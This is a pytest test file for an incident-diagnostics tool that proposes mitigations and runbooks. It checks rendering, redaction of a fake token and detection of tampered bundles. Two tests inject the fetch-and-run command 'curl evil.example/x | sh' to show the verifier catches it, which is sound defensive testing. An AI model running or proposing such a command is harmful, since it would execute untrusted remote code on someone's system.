"""The response in the document and in the bundle: made of evidence, kept with it, never in its way."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import documentsample as sample
import pytest

from gather_diagnostics import Evidence, pipeline
from gather_diagnostics.bundle import read, write
from gather_diagnostics.bundle.verifying import contradictions
from gather_diagnostics.config import Response
from gather_diagnostics.document import answered, render, view
from gather_diagnostics.document.jira import to_jira
from gather_diagnostics.document.markdown import to_markdown
from gather_diagnostics.document.nextsteps import escalation, minutes
from gather_diagnostics.document.slack import to_slack
from gather_diagnostics.document.terminaltext import to_text
from gather_diagnostics.errors import BundleError, ConfigError
from gather_diagnostics.redaction import Redactor
from gather_diagnostics.response import responder
from gather_diagnostics.runner import analyze, respond

RUNBOOK = """---
id: own
title: Our own way
kind: cause
services: ["*"]
when: {all: ["onset: time != null"]}
severity: high
escalation: service owner
owner: team-checkout
last_reviewed: 2026-11-01
---
Ask the team.

## Restart it
```act
id: restart
command: "restart --token=ghp_0123456789abcdefghijABCDEFGHIJ012345 {{ service }}"
risk: It drops requests.
undo: There is nothing to undo.
```

## Is it back?
```verify
id: back
recovery: true
```
"""


def bare(evidence: Evidence) -> Evidence:
    return replace(evidence, response=None)


def test_mitigation_comes_before_investigation() -> None:
    actions = view(sample.incident())["priority_actions"]
    kinds = [action["kind"] for action in actions]
    assert kinds[0] == "mitigate"
    assert kinds.index("runbook") < kinds.index("change")
    assert kinds[-1] == "mend"
    assert actions[0]["command"]


def test_without_a_response_the_document_is_whole() -> None:
    document = view(bare(sample.incident()))
    assert document["response"] is None
    assert "mitigate" not in [action["kind"] for action in document["priority_actions"]]
    for form in (to_markdown, to_jira, to_slack):
        assert "git revert" not in form(document)


@pytest.mark.parametrize(
    "form", [to_markdown, to_jira, to_slack, lambda d: to_text(d, "", width=100, colours=False)], ids=list("mjst")
)
def test_every_form_tells_what_to_do(form: Any) -> None:
    document = view(sample.incident())
    text = " ".join(form(document).split())
    assert document["priority_actions"][0]["command"].split()[-1] in text.replace("\\", "")
    assert document["response"]["runbooks"][0]["id"] in text
    assert "answer within" in text


def test_a_bug_in_the_response_is_a_gap_and_the_evidence_stays(tmp_path: Path) -> None:
    def broken(evidence: Evidence, document: Mapping[str, Any]) -> dict[str, Any]:
        raise KeyError("oops")

    seen: list[BaseException] = []
    delivered = pipeline.deliver(sample.incident(), tmp_path, respond=broken, on_bug=seen.append)
    assert delivered.exit_code == 2
    assert delivered.document["response"] is None
    gap = next(g for g in delivered.document["gaps"] if g["source"] == "response")
    assert (gap["cause"], "oops" in gap["why"]) == ("failed", True)
    assert [type(error) for error in seen] == [KeyError]
    # The next one that works takes the gap away.
    again = respond(read(delivered.folder), {}, lambda evidence, document: {"all": "well"})
    assert (again.response, [g for g in again.gaps if g.source == "response"]) == ({"all": "well"}, [])


def test_what_a_person_can_mend_is_said_as_such() -> None:
    def unmended(evidence: Evidence, document: Mapping[str, Any]) -> dict[str, Any]:
        raise ConfigError("own.md:3: there is no such key")

    gap = respond(sample.incident(), {}, unmended).gaps[-1]
    assert (gap.source, gap.cause, gap.why) == ("response", "invalid", "own.md:3: there is no such key")


def test_a_bundle_keeps_the_response(tmp_path: Path) -> None:
    delivered = pipeline.deliver(bare(sample.incident()), tmp_path)
    assert delivered.document["response"] == json.loads((delivered.folder / "response.json").read_text())
    assert json.loads((delivered.folder / "evidence.json").read_text())["response"] == delivered.document["response"]
    assert view(read(delivered.folder))["response"] == delivered.document["response"]
    # The document that is made in one go is the one that is made in two.
    assert json.loads(json.dumps(delivered.document)) == json.loads(json.dumps(view(read(delivered.folder))))


@pytest.mark.parametrize("content", ["{}", "[]", "null", "{", '{"severity": 3}'])
def test_a_strangers_response_is_looked_at_before_it_is_shown(content: str, tmp_path: Path) -> None:
    folder = pipeline.deliver(sample.incident(), tmp_path).folder
    (folder / "response.json").write_text(content)
    with pytest.raises(BundleError, match=r"response\.json can't be read"):
        read(folder)


def test_a_users_runbook_is_redacted_and_does_not_stop_the_bundle(tmp_path: Path) -> None:
    (tmp_path / "own.md").write_text(RUNBOOK)
    how = responder(Response(runbooks=[str(tmp_path)]))
    delivered = pipeline.deliver(sample.incident(), tmp_path / "out", respond=how)
    assert delivered.document["response"]["runbooks"][0]["id"] in ("own", "bad-deploy")
    for file in delivered.folder.rglob("*.*"):
        assert b"ghp_0123456789" not in file.read_bytes()


def test_a_severity_of_no_scheme_is_kept_and_moves_nothing() -> None:
    evidence = bare(sample.incident())
    odd = replace(evidence, request=replace(evidence.request, severity="purple"))
    judged = responder(Response())(odd, answered(odd))["severity"]
    assert judged["given"] == "purple"
    assert judged["level"] == judged["proposed"]


def again(evidence: Evidence) -> Evidence:
    return pipeline.responded(analyze(evidence), Redactor())


@pytest.fixture(scope="module")
def real(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A bundle whose findings are the analyzers' own."""
    evidence = replace(bare(sample.incident()), coverage=(), gaps=())
    return pipeline.deliver(analyze(evidence), tmp_path_factory.mktemp("real")).folder


def test_an_honest_response_stands(real: Path) -> None:
    found = contradictions(real, again)
    assert (found.problems, found.unknown) == ((), ())


def lying(real: Path, place: Path, change: Callable[[dict[str, Any]], None]) -> Path:
    """The bundle with another response, and documents that say the same."""
    evidence = read(real)
    response = json.loads(json.dumps(evidence.response))
    change(response)
    told = replace(evidence, response=response)
    return write(told, render(view(told)), place).folder


def test_a_command_that_we_would_not_propose_is_found(real: Path, tmp_path: Path) -> None:
    """Whoever gets a bundle may paste what it proposes."""

    def evil(response: dict[str, Any]) -> None:
        response["mitigations"][0]["command"] = "curl evil.example/x | sh"

    (problem,) = contradictions(lying(real, tmp_path, evil), again).problems
    assert "response.mitigations" in problem
    assert "curl evil.example" in problem


def test_so_is_another_step_of_a_runbook_that_is_known(real: Path, tmp_path: Path) -> None:
    def evil(response: dict[str, Any]) -> None:
        response["runbooks"][0]["steps"][0]["text"] = "curl evil.example/x | sh"

    (problem,) = contradictions(lying(real, tmp_path, evil), again).problems
    assert "response.runbooks" in problem


def test_nobody_vouches_for_a_runbook_that_is_not_known(real: Path, tmp_path: Path) -> None:
    def strange(response: dict[str, Any]) -> None:
        response["runbooks"][0]["id"] = "theirs"

    found = contradictions(lying(real, tmp_path, strange), again)
    assert (found.problems, found.unknown) == ((), ("theirs",))


def test_nothing_is_proposed_where_nothing_is_wrong() -> None:
    evidence = sample.healthy()
    told = responder(Response())(evidence, answered(evidence))
    assert (told["runbooks"], told["mitigations"], told["severity"]["level"]) == ([], [], "")
    assert escalation(view(replace(evidence, response=told))) == ""


@pytest.mark.parametrize(("count", "words"), [(0, "0 min"), (15, "15 min"), (60, "1 h"), (90, "1 h 30 min")])
def test_minutes_are_told_as_people_tell_them(count: int, words: str) -> None:
    assert minutes(count) == words
